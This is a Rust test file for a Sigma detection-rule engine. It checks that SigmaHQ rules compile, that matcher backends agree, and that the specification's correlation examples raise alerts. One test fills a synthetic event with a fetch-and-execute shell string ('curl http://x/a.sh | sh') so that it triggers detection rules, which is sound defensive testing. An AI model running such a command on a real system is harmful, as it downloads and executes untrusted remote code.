//! canh-rules on real rules and real logs (from `shared/corpora`, beside the checkout; each
//! test prints one line and passes when its corpus is absent):
//!
//! - SigmaHQ's linux, network and web rules load: no panics, at least 95 % compiled, no
//!   invalid rule, unsupported reasons listed with counts (this file);
//! - every fast-matcher backend gives the reference evaluator's answers on loghub's Linux and
//!   OpenSSH logs and canh's fixtures (`sigmahq/matchers.rs`);
//! - the reference evaluator agrees with the `sigma-rust` crate on those events, rule by
//!   rule, each difference explained (`sigmahq/sigma_rust.rs`);
//! - the Sigma specification's examples load, and each correlation example raises its alert
//!   on a timeline made for it (this file).

#[path = "sigmahq/matchers.rs"]
mod matchers;
#[path = "sigmahq/sigma_rust.rs"]
mod sigma_rust;

use canh_collectors::syslog::{self, ParseContext};
use canh_core::{Event, Origin};
use canh_rules::{LoadStatus, Mapping, NaiveHits, RuleSet, Summary};
use chrono::TimeZone;
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// Share of SigmaHQ's rules for these logsources that must compile.
const MIN_COMPILED_SHARE: f64 = 0.95;

/// SigmaHQ's rule folders canh targets (syslog sources).
const SIGMAHQ_FOLDERS: [&str; 3] = ["linux", "network", "web"];

fn shared_corpora() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../shared/corpora")
}

fn corpus() -> PathBuf {
    shared_corpora().join("sigma-rules/rules")
}

/// SigmaHQ's linux, network and web rule files, or `None` (and a printed line) when absent.
fn sigmahq_files(test: &str) -> Option<Vec<(String, String)>> {
    let root = corpus();
    if !root.is_dir() {
        println!("{test}: skipped, {} is absent", root.display());
        return None;
    }
    let mut files = Vec::new();
    for sub in SIGMAHQ_FOLDERS {
        rule_files(&root.join(sub), &mut files);
    }
    assert!(!files.is_empty(), "no rule files under {}", root.display());
    Some(files)
}

/// canh's own rule pack (`rules/canh`).
fn canh_pack_files() -> Vec<(String, String)> {
    let mut files = Vec::new();
    rule_files(
        &Path::new(env!("CARGO_MANIFEST_DIR")).join("canh"),
        &mut files,
    );
    assert!(!files.is_empty(), "rules/canh is empty");
    files
}

/// Lines of loghub's Linux and OpenSSH logs (empty, with a printed line, when absent) and of
/// canh's fixtures (`fixtures/syslog/*.log` and the `syslog:` blocks of the rule tests), each
/// with where it came from.
fn corpus_lines(test: &str) -> Vec<(String, String)> {
    let mut out = Vec::new();
    let loghub = shared_corpora().join("loghub-syslog");
    for sub in ["Linux", "OpenSSH"] {
        let dir = loghub.join(sub);
        let Ok(entries) = std::fs::read_dir(&dir) else {
            println!("{test}: {} is absent, loghub lines skipped", dir.display());
            continue;
        };
        let mut logs: Vec<PathBuf> = entries
            .filter_map(|e| e.ok().map(|e| e.path()))
            .filter(|p| p.extension().is_some_and(|e| e == "log"))
            .collect();
        logs.sort();
        for p in logs {
            push_lines(&p, &std::fs::read(&p).expect("readable log"), &mut out);
        }
    }
    let fixtures = Path::new(env!("CARGO_MANIFEST_DIR")).join("../fixtures");
    let mut logs = Vec::new();
    walk(&fixtures.join("syslog"), &mut logs);
    for p in logs
        .iter()
        .filter(|p| p.extension().is_some_and(|e| e == "log"))
    {
        push_lines(p, &std::fs::read(p).expect("readable fixture"), &mut out);
    }
    let mut tests = Vec::new();
    walk(&fixtures.join("rules"), &mut tests);
    for p in tests
        .iter()
        .filter(|p| p.to_string_lossy().ends_with(".test.yml"))
    {
        let text = std::fs::read_to_string(p).expect("rule tests are UTF-8");
        let (docs, _) = canh_rules::yaml::parse(&text);
        if let Some(block) = docs
            .first()
            .and_then(|d| d.get("syslog"))
            .and_then(|n| n.as_str())
        {
            push_lines(p, block.as_bytes(), &mut out);
        }
    }
    assert!(!out.is_empty(), "no corpus lines at all");
    out
}

fn push_lines(path: &Path, bytes: &[u8], out: &mut Vec<(String, String)>) {
    let text = String::from_utf8_lossy(bytes);
    for (n, line) in text.lines().enumerate() {
        if !line.trim().is_empty() {
            out.push((format!("{}:{}", path.display(), n + 1), line.to_owned()));
        }
    }
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut paths: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    paths.sort();
    for p in paths {
        if p.is_dir() {
            walk(&p, out);
        } else {
            out.push(p);
        }
    }
}

/// Parses corpus lines exactly as `canh up` does (fixed receive time and zone, so runs agree).
fn parse_lines(lines: &[(String, String)]) -> Vec<Event> {
    let ctx = ParseContext {
        received: chrono::Utc
            .with_ymd_and_hms(2026, 11, 25, 12, 0, 0)
            .single()
            .expect("a valid time"),
        zone: "+07:00".parse().expect("a valid zone"),
    };
    lines
        .iter()
        .map(|(_, l)| syslog::parse(l.as_bytes(), &ctx, Origin::new("corpus", None)))
        .collect()
}

/// `ev` as a test-format event for `set`: every field the set's patterns and checks name,
/// under the name the rule wrote, with the value canh's mapping finds in `ev`. Such an event
/// has no logsource, so every rule applies to it.
fn flat_event(set: &RuleSet, ev: &Event) -> BTreeMap<String, String> {
    let mut out = BTreeMap::new();
    let mut put = |f: &canh_rules::FieldRef| {
        if !out.contains_key(&f.written)
            && let Some(v) = canh_rules::eval::field_value(ev, f)
        {
            out.insert(f.written.clone(), v.into_owned());
        }
    };
    set.fields().iter().for_each(&mut put);
    for c in set.checks() {
        put(c.field());
        if let canh_rules::Check::FieldRef { other, .. } = c {
            put(other);
        }
    }
    out
}

fn rule_files(dir: &Path, out: &mut Vec<(String, String)>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    let mut paths: Vec<PathBuf> = entries.filter_map(|e| e.ok().map(|e| e.path())).collect();
    paths.sort();
    for p in paths {
        if p.is_dir() {
            rule_files(&p, out);
        } else if p.extension().is_some_and(|e| e == "yml" || e == "yaml") {
            let text = std::fs::read_to_string(&p).expect("rule files are UTF-8");
            out.push((p.display().to_string(), text));
        }
    }
}

#[test]
fn sigmahq_linux_network_web() {
    let Some(files) = sigmahq_files("sigmahq_linux_network_web") else {
        return;
    };
    let (set, reports) = RuleSet::load(&files, Mapping::builtin());
    let summary = Summary::of(&reports);
    println!("sigmahq: {} files, {summary}", files.len());
    println!(
        "sigmahq: {} patterns on {} fields, {} checks",
        set.patterns().len(),
        set.fields().len(),
        set.checks().len()
    );

    let mut reasons: BTreeMap<&str, usize> = BTreeMap::new();
    let mut invalid = Vec::new();
    for r in &reports {
        match &r.status {
            LoadStatus::Unsupported { reason } => *reasons.entry(reason).or_default() += 1,
            LoadStatus::Invalid { .. } => invalid.push(r.to_string()),
            LoadStatus::Compiled => {}
        }
    }
    let mut by_count: Vec<_> = reasons.into_iter().collect();
    by_count.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(b.0)));
    for (reason, n) in &by_count {
        println!("unsupported {n:4}: {reason}");
    }
    for i in &invalid {
        println!("invalid: {i}");
    }
    assert!(invalid.is_empty(), "SigmaHQ ships no invalid rule");
    let share = summary.compiled as f64 / summary.total() as f64;
    assert!(
        share >= MIN_COMPILED_SHARE,
        "only {:.1} % compiled",
        share * 100.0
    );

    // Every compiled rule evaluates on an empty and on a busy event without panicking.
    let empty: BTreeMap<String, String> = BTreeMap::new();
    assert!(set.matches_naive(&empty).len() <= set.compiled().len());
    let busy: BTreeMap<String, String> = set
        .fields()
        .iter()
        .map(|f| {
            (
                f.written.clone(),
                "/bin/bash -c 'curl http://x/a.sh | sh' wget ".to_owned(),
            )
        })
        .collect();
    let hits = NaiveHits::new(&set, &busy);
    let matched = set.matches(&busy, &hits);
    println!(
        "sigmahq: {} rules match a busy synthetic event",
        matched.len()
    );
}

/// The specification's own examples: detection rules, filters and correlation rules compile
/// (each correlation example with a stand-in detection rule for every rule it names), and
/// nothing is invalid.
#[test]
fn specification_examples() {
    let Some(root) = spec_examples("specification_examples") else {
        return;
    };
    let mut files = Vec::new();
    rule_files(&root, &mut files);
    let stubs = stub_rules(&files);
    files.push(("stubs.yml".to_owned(), stubs));
    let (set, reports) = RuleSet::load(&files, Mapping::builtin());
    for r in &reports {
        println!("{r}");
        assert!(r.status.is_compiled(), "{r}");
    }
    let summary = Summary::of(&reports);
    assert_eq!(summary.total(), 4 + 8 + STUBBED.len(), "{summary}");
    assert_eq!(set.compiled().len(), 2 + STUBBED.len());
    assert_eq!(set.correlations().len(), 8);
}

/// Rules the specification's correlation examples name without defining them.
const STUBBED: [&str; 7] = [
    "5638f7c0-ac70-491d-8465-2a65075e0d86",
    "recon_cmd_a",
    "recon_cmd_b",
    "recon_cmd_c",
    "rule_a_id",
    "website_access",
    "process_creation",
];

fn spec_examples(test: &str) -> Option<PathBuf> {
    let root = shared_corpora().join("sigma-specification/examples");
    if !root.is_dir() {
        println!("{test}: skipped, {} is absent", root.display());
        return None;
    }
    Some(root)
}

/// One detection rule per name in [`STUBBED`] that `files` mention, matching events whose
/// `stub` field is that name (a UUID as the rule's id, anything else as its name).
fn stub_rules(files: &[(String, String)]) -> String {
    let mut docs = Vec::new();
    for name in STUBBED {
        if !files.iter().any(|(_, t)| t.contains(name)) {
            continue;
        }
        let key = if name.len() == 36 && name.matches('-').count() == 4 {
            "id"
        } else {
            "name"
        };
        docs.push(format!(
            "title: stand-in for {name}\n{key}: {name}\nlogsource: {{product: test}}\ndetection:\n    sel: {{stub: {name}}}\n    condition: sel\n"
        ));
    }
    docs.join("---\n")
}

/// A test-format event: `stub` names the stand-in rule it matches, then the fields.
fn ev(stub: &str, fields: &[(&str, String)]) -> BTreeMap<String, String> {
    let mut m: BTreeMap<String, String> = fields
        .iter()
        .map(|(k, v)| ((*k).to_owned(), v.clone()))
        .collect();
    m.insert("stub".to_owned(), stub.to_owned());
    m
}

/// Each correlation example on a timeline of its own (one event a second): the alerts it
/// opens, and the count of the first.
#[test]
fn specification_correlation_examples_raise() {
    use canh_rules::correlate::{Correlator, CorrelatorConfig, Match};
    let Some(root) = spec_examples("specification_correlation_examples_raise") else {
        return;
    };
    let uuid = STUBBED[0];
    let s = |v: &str| v.to_owned();
    let n = |k: usize| k.to_string();
    type Timeline = Vec<BTreeMap<String, String>>;
    let cases: Vec<(&str, Timeline, usize, u64)> = vec![
        (
            "event_count.yml",
            (0..199)
                .map(|k| {
                    ev(
                        uuid,
                        &[("ComputerName", s(if k % 2 == 0 { "pc1" } else { "pc2" }))],
                    )
                })
                .collect(),
            1,
            100,
        ),
        (
            "event_count_ecs.yml",
            (0..100)
                .map(|_| ev(uuid, &[("dns.question.name", s("example.org"))]))
                .collect(),
            1,
            100,
        ),
        (
            "value_count.yml",
            (0..120)
                .map(|k| {
                    ev(
                        uuid,
                        &[
                            ("ComputerName", s("dc1")),
                            ("WorkstationName", s("ws9")),
                            ("User", format!("user{}", k % 100)),
                        ],
                    )
                })
                .collect(),
            1,
            100,
        ),
        (
            "temporal.yml",
            [
                "recon_cmd_c",
                "recon_cmd_a",
                "recon_cmd_a",
                "recon_cmd_b",
                "recon_cmd_b",
            ]
            .iter()
            .zip(["alice", "alice", "bob", "alice", "bob"])
            .map(|(r, user)| ev(r, &[("ComputerName", s("pc1")), ("User", s(user))]))
            .collect(),
            1,
            3,
        ),
        (
            "temporal_ordered.yml",
            [
                "recon_cmd_c",
                "recon_cmd_b",
                "recon_cmd_a",
                "recon_cmd_b",
                "recon_cmd_c",
            ]
            .iter()
            .map(|r| ev(r, &[("ComputerName", s("pc1")), ("User", s("alice"))]))
            .collect(),
            1,
            5,
        ),
        (
            "value_avg.yml",
            [400, 500, 700]
                .iter()
                .map(|b| {
                    ev(
                        "rule_a_id",
                        &[
                            ("SourceIP", s("10.0.0.5")),
                            ("User", s("u")),
                            ("BytesOut", n(*b)),
                        ],
                    )
                })
                .collect(),
            1,
            3,
        ),
        (
            "value_sum.yml",
            [400_000, 500_000, 200_000]
                .iter()
                .map(|b| {
                    ev(
                        "website_access",
                        &[
                            ("SourceIP", s("10.0.0.5")),
                            ("User", s("u")),
                            ("bytes_sent", n(*b)),
                        ],
                    )
                })
                .collect(),
            1,
            3,
        ),
        (
            "value_percentile.yml",
            (0..101)
                .map(|k| {
                    let image = match k {
                        100 => "C:\\Users\\Public\\x.exe",
                        k if k % 2 == 0 => "C:\\Windows\\explorer.exe",
                        _ => "C:\\Windows\\svchost.exe",
                    };
                    ev(
                        "process_creation",
                        &[("ComputerName", s("pc1")), ("Image", s(image))],
                    )
                })
                .collect(),
            1,
            101,
        ),
    ];
    for (file, events, want_alerts, want_count) in cases {
        let path = root.join("correlation").join(file);
        let text = std::fs::read_to_string(&path).expect("example readable");
        let files = vec![
            (path.display().to_string(), text.clone()),
            (
                "stubs.yml".to_owned(),
                stub_rules(&[(file.to_owned(), text)]),
            ),
        ];
        let (set, reports) = RuleSet::load(&files, Mapping::builtin());
        assert!(
            reports.iter().all(|r| r.status.is_compiled()),
            "{reports:#?}"
        );
        let mut c = Correlator::new(&set, CorrelatorConfig::default());
        let mut out = Vec::new();
        for (k, e) in events.iter().enumerate() {
            for rule in set.matches_naive(e) {
                let time_ms = 1_000 * k as i64;
                c.observe(
                    &Match {
                        rule,
                        time_ms,
                        event: e,
                    },
                    &mut out,
                );
            }
        }
        let new: Vec<_> = out.iter().filter(|r| r.new).collect();
        println!(
            "{file}: {} alerts, first {:?}",
            new.len(),
            new.first().map(|r| (&r.key, &r.group, r.count, r.value))
        );
        assert_eq!(new.len(), want_alerts, "{file}: {out:#?}");
        assert_eq!(new[0].count, want_count, "{file}");
    }
}
